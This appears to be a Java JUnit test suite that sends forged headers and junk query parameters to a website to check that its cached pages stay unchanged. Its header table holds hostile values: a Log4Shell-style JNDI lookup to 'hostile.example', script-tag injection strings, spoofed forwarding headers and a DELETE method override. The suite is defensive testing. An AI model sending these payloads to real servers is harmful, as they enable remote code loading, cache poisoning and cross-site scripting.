package org.parallax.attack;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.http.HttpHeaders;
import java.net.http.HttpRequest;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.parallax.web.PageTypes;
import org.parallax.web.Site;
import org.parallax.web.WebTest;
import org.springframework.beans.factory.annotation.Autowired;

/** A cache keeps a page under its address: no header that it does not look at may change the page, and no junk in the query. */
@WebTest
class HostileHeaderTests {
    private static final Map<String, String> HEADERS = Map.ofEntries(
            Map.entry("X-Forwarded-Host", "hostile.example"),
            Map.entry("X-Forwarded-Proto", "https"),
            Map.entry("X-Forwarded-Scheme", "https"),
            Map.entry("X-Forwarded-Port", "666"),
            Map.entry("X-Forwarded-Prefix", "/hostile"),
            Map.entry("X-Forwarded-For", "192.0.2.66"),
            Map.entry("Forwarded", "for=192.0.2.66;host=hostile.example;proto=https"),
            Map.entry("X-Original-URL", "/hostile"),
            Map.entry("X-Rewrite-URL", "/hostile"),
            Map.entry("X-HTTP-Method-Override", "DELETE"),
            Map.entry("X-Host", "hostile.example"),
            Map.entry("Accept", "text/html;x=hostile, */*;q=0.1"),
            Map.entry("Accept-Language", "zh-CN,hostile;q=0.9"),
            Map.entry("Accept-Charset", "utf-16"),
            Map.entry("Cookie", "JSESSIONID=hostile; lang=hostile"),
            Map.entry("Authorization", "Basic aG9zdGlsZTpob3N0aWxl"),
            Map.entry("Referer", "https://hostile.example/\"><script>"),
            Map.entry("User-Agent", "<script>hostile</script>${jndi:ldap://hostile.example}"),
            Map.entry("Range", "bytes=0-1"),
            Map.entry("X-Requested-With", "hostile"));

    private static final Set<String> CHANGING = Set.of("date", "connection", "keep-alive");

    @Autowired
    Site site;

    static Stream<String> addresses() {
        return Stream.of(
                        PageTypes.FOUND.stream(),
                        PageTypes.MISSING.stream(),
                        Stream.of(
                                "/US-1.3.2",
                                "/us-aiap-2025/1.3.2/data.json",
                                "/us-aiap-2025/data.csv",
                                "/embed/us-1.3.2",
                                "/feed.atom",
                                "/sitemap.xml",
                                "/robots.txt",
                                "/api/v1/plans"))
                .flatMap(stream -> stream);
    }

    @ParameterizedTest
    @MethodSource("addresses")
    void noHeaderChangesAnAnswer(String path) {
        HttpRequest.Builder hostile = site.request(path);
        HEADERS.forEach(hostile::setHeader);
        Site.Answer plain = site.get(path);
        Site.Answer answer = site.send(hostile.GET().build());
        assertThat(answer.status()).isEqualTo(plain.status());
        assertThat(answer.body()).isEqualTo(plain.body());
        assertThat(stable(answer.response().headers()))
                .isEqualTo(stable(plain.response().headers()))
                .doesNotContainKeys("set-cookie", "strict-transport-security");
    }

    @ParameterizedTest
    @MethodSource("addresses")
    void unknownParametersAreNotShown(String path) {
        Site.Answer answer = site.get(path + (path.contains("?") ? "&" : "?")
                + "utm_source=%22%3E%3Cqzhostile%3E&qzhostile=1&_method=DELETE");
        assertThat(answer.status()).isIn(200, 301, 302, 400, 404);
        if (!answer.header("Content-Type").orElse("").contains("json")) {
            assertThat(answer.body()).doesNotContain("qzhostile");
        }
    }

    private static Map<String, List<String>> stable(HttpHeaders headers) {
        Map<String, List<String>> kept = new TreeMap<>(headers.map());
        kept.keySet().removeIf(CHANGING::contains);
        return kept;
    }
}
